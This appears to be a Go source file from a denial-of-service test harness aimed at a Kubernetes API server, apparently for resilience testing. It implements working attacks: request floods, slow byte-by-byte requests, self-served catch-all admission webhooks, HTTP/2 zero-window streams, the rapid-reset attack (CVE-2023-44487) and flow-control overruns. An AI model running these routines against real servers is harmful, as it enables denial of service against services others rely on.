//go:build linux

package attack

import (
	"bufio"
	"context"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// mallory is the attacker's process.
type mallory struct {
	target

	// end ends the attack, which needs a number of responses.
	end    func()
	needed int

	mu sync.Mutex // guards the fields below
	// answers has the number of responses by code. Code 0 means no response.
	answers map[int]int
	// over is set when the duration of the attack has passed.
	over bool
}

// join runs the attacker's process. It attacks for d and until enough responses have arrived, and prints the number of
// responses by code.
func join(name string, t target, d string) error {
	all := table()
	a := all[slices.IndexFunc(all, func(a attack) bool { return a.name == name })]
	last, err := time.ParseDuration(d)
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), last+patience+10*time.Second) // a request may take 34 s
	defer cancel()
	m := &mallory{target: t, answers: map[int]int{}, needed: a.answers, end: cancel}
	defer time.AfterFunc(last, func() {
		m.mu.Lock()
		defer m.mu.Unlock()
		m.over = true
		m.check()
	}).Stop()
	if err := a.run(ctx, m); err != nil {
		return err
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	return json.NewEncoder(os.Stdout).Encode(m.answers)
}

// count records a response, or that there was none. It ignores requests that the end of the attack has interrupted.
func (m *mallory) count(ctx context.Context, code int, err error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if err == nil || ctx.Err() == nil {
		m.answers[code]++
	}
	m.check()
}

// check ends the attack when its duration has passed and enough responses have arrived.
func (m *mallory) check() {
	if m.over && count(m.answers) >= m.needed {
		m.end()
	}
}

// runner attacks until ctx ends.
type runner = func(context.Context, *mallory) error

// each runs n clients that call do repeatedly until ctx ends.
func each(ctx context.Context, n int, do func(client, turn int)) {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() {
			for turn := 0; ctx.Err() == nil; turn++ {
				do(i, turn)
			}
		})
	}
	all.Wait()
}

// pause waits for d, and reports whether ctx has not ended.
func pause(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}

// flood returns an attack by n clients that send requests and read the responses. Each has its own connection and sends
// one request at a time. A watch is read until it ends.
func flood(user string, n int, next func(client, turn int) request) runner {
	return func(ctx context.Context, m *mallory) error {
		c := m.client(user, false)
		each(ctx, n, func(client, turn int) {
			r := next(client, turn)
			res, err := c.open(ctx, r, strings.NewReader(r.body))
			if err != nil {
				m.count(ctx, 0, err)
				pause(ctx, 50*time.Millisecond) // the server may be gone
				return
			}
			m.count(ctx, res.StatusCode, nil)
			if _, err := io.Copy(io.Discard, res.Body); err != nil {
				m.count(ctx, 0, err)
			}
			_ = res.Body.Close()
		})
		return nil
	}
}

// same returns one request repeatedly.
func same(r request) func(int, int) request { return func(int, int) request { return r } }

// post returns a flood of creates with the same body.
func post(n int, path, body string) runner {
	return flood(attacker, n, same(request{method: "POST", path: path, body: body}))
}

// both runs two attacks at once.
func both(one, two runner) runner {
	return func(ctx context.Context, m *mallory) (err error) {
		var second sync.WaitGroup
		second.Go(func() { _ = two(ctx, m) }) // floods don't fail
		defer second.Wait()
		return one(ctx, m)
	}
}

// connect returns an attack by n clients that repeatedly open a connection and use it.
func connect(n int, protocol string, do func(ctx context.Context, m *mallory, c net.Conn) error) runner {
	return func(ctx context.Context, m *mallory) error {
		dialing := make(chan struct{}, 16)
		each(ctx, n, func(int, int) {
			dialing <- struct{}{}
			c, err := m.dial(ctx, protocol)
			<-dialing
			if err == nil {
				stop := context.AfterFunc(ctx, func() { _ = c.Close() }) // ends its reads and writes
				err = do(ctx, m, c)
				stop()
				_ = c.Close() // it may be closed already
			}
			if err != nil {
				m.count(ctx, 0, err)
			}
			pause(ctx, 50*time.Millisecond)
		})
		return nil
	}
}

// dribble returns an attack by n clients that send a beginning, and then a byte a second. They read the first line of
// the response. After a GET they keep the connection, and read no more.
func dribble(n int, beginning string) runner {
	return connect(n, "http/1.1", func(ctx context.Context, m *mallory, c net.Conn) error {
		var reading sync.WaitGroup
		defer reading.Wait()
		reading.Go(func() {
			line, err := bufio.NewReaderSize(c, 16).ReadString('\n')
			var code int
			if _, e := fmt.Sscanf(line, "HTTP/1.1 %d", &code); e == nil {
				err = nil
			}
			m.count(ctx, code, err)
			if strings.HasPrefix(beginning, "GET ") && (code == 101 || code == 200 || code == 403) {
				<-ctx.Done()
			}
			_ = c.Close() // nothing more is sent
		})
		if _, err := io.WriteString(c, beginning); err != nil {
			return nil // the response, or the end of the connection, is recorded above
		}
		complete := strings.HasPrefix(beginning, "GET ") && strings.HasSuffix(beginning, "\r\n\r\n")
		for !complete && pause(ctx, time.Second) {
			if _, err := io.WriteString(c, " "); err != nil {
				return nil
			}
		}
		return nil
	})
}

// hooked returns an attack while n webhooks admit all writes in the namespace attack. The webhooks run in the
// attacker's process. answer receives the UID of a review.
func hooked(n int, answer func(w http.ResponseWriter, r *http.Request, uid string), attack runner) runner {
	return func(ctx context.Context, m *mallory) error {
		s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			var review struct{ Request struct{ UID string } }
			if json.NewDecoder(r.Body).Decode(&review) == nil {
				answer(w, r, review.Request.UID)
			}
		}))
		s.Config.ErrorLog = log.New(io.Discard, "", 0)
		s.StartTLS() // the process ends with the attack
		ca, err := json.Marshal(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw}))
		if err != nil {
			return err
		}
		hooks := items(n, func(i int) string {
			return fmt.Sprintf(`{"name":"h%d.example.com","clientConfig":{"url":"%s/","caBundle":%s},"rules":[{
				"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*"]}],"sideEffects":"None",
				"admissionReviewVersions":["v1"],"namespaceSelector":{"matchLabels":{"kubernetes.io/metadata.name":"attack"}}}`, i, s.URL, ca)
		})
		const path = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
		if err := m.create(ctx, [2]string{path, `{"metadata":{"name":"h"},"webhooks":[` + hooks + `]}`}); err != nil {
			return err
		}
		return attack(ctx, m)
	}
}

// allow writes the response of a webhook, with a further field if more is not empty.
func allow(w io.Writer, uid, more string) {
	_, _ = fmt.Fprintf(w, `{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1",
		"response":{"uid":%q,"allowed":true%s}}`, uid, more) // an error means that the server has closed the connection
}

// stream is an HTTP/2 connection whose client gives the server no window.
type stream struct {
	mu sync.Mutex // guards the fields below
	w  *bufio.Writer
	f  *http2.Framer
}

func (s *stream) send(frames ...func(*http2.Framer) error) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, frame := range frames {
		if err := frame(s.f); err != nil {
			return err
		}
	}
	return s.w.Flush()
}

// streams returns an attack by n clients that use an HTTP/2 connection, and keep it until the server closes it.
func streams(n int, do func(ctx context.Context, s *stream) error) runner {
	return connect(n, "h2", func(ctx context.Context, m *mallory, c net.Conn) error {
		s := &stream{w: bufio.NewWriterSize(c, 64<<10)}
		s.f = http2.NewFramer(s.w, c)
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		if err := s.send(func(f *http2.Framer) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}); err != nil {
			return err
		}
		var reading sync.WaitGroup
		defer reading.Wait()
		reading.Go(func() {
			s.read(ctx, m)
			_ = c.Close()
		})
		if err := do(ctx, s); err != nil {
			_ = c.Close()
		}
		return nil
	})
}

// read reads the heads of responses until there are no more.
func (s *stream) read(ctx context.Context, m *mallory) {
	s.f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		frame, err := s.f.ReadFrame()
		switch frame := frame.(type) {
		case *http2.MetaHeadersFrame:
			code, _ := strconv.Atoi(frame.PseudoValue("status")) // the server's own
			m.count(ctx, code, nil)
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				err = s.send((*http2.Framer).WriteSettingsAck)
			}
		}
		if err != nil {
			return
		}
	}
}

// open returns the frames of a request's head. more has names and values of fields in turn.
func open(id uint32, end bool, method, path, user string, more ...string) func(*http2.Framer) error {
	const most = 16_000
	return func(f *http2.Framer) error {
		var b strings.Builder
		enc := hpack.NewEncoder(&b)
		enc.SetMaxDynamicTableSize(0)
		fields := append([]string{":method", method, ":scheme", "https", ":authority", "localhost", ":path", path,
			"authorization", "Bearer " + token(user)}, more...)
		for i := 0; i < len(fields); i += 2 {
			if err := enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}); err != nil {
				return err
			}
		}
		piece, rest := b.String(), ""
		if len(piece) > most {
			piece, rest = piece[:most], piece[most:]
		}
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndStream: end, EndHeaders: rest == "",
			BlockFragment: []byte(piece)})
		for err == nil && rest != "" {
			n := min(len(rest), most)
			err = f.WriteContinuation(id, n == len(rest), []byte(rest[:n]))
			rest = rest[n:]
		}
		return err
	}
}

// hundred returns the frames that begin a hundred requests. With end they have no body.
func hundred(n int, end bool, method, path, user string, more ...string) runner {
	return streams(n, func(_ context.Context, s *stream) error {
		for i := range uint32(100) {
			if err := s.send(open(2*i+1, end, method, path, user, more...)); err != nil {
				return err
			}
		}
		return nil
	})
}

// reset opens streams and resets them at once (CVE-2023-44487), until the server closes the connection.
func reset(_ context.Context, s *stream) error {
	for id := uint32(1); ; id += 2 {
		if err := s.send(open(id, true, "GET", configMaps, attacker), func(f *http2.Framer) error {
			return f.WriteRSTStream(id, http2.ErrCodeCancel)
		}); err != nil {
			return err
		}
	}
}

// ahead sends a body of 1 MB, although the window is 64 KiB, and another request.
func ahead(_ context.Context, s *stream) error {
	frames := []func(*http2.Framer) error{open(1, false, "POST", configMaps, stranger)}
	for range 62 {
		frames = append(frames, func(f *http2.Framer) error { return f.WriteData(1, false, make([]byte, 16_000)) })
	}
	return s.send(append(frames, open(3, true, "GET", configMaps, stranger))...)
}
